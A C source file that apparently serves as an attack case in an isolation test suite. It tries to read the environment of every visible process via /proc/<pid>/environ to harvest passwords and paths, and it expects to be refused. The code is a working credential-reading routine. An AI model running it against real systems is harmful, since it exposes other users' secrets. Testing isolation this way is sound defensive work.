// Tries: to read the environment of every process it can see. Wins: the box's passwords and paths.
// Refused: ^(others: EACCES|no secret in any)$
// Control: any
// Needs: victim
#include "../library/attack.h"

static int denied;
static const char *visit(const char *pid) {
  static char bytes[CHUNK];
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/environ", pid);
  ssize_t length = load(path, bytes, sizeof bytes);
  if (length < 0 && errno == EACCES) denied++;
  return length > 0 ? find_secret(bytes, (size_t)length) : NULL;
}

static const char *attack(void) {
  const char *won = each_process(visit);
  if (won) return won;
  errno = EACCES;
  return denied ? refuse("others") : refuse_plainly("no secret in any");
}
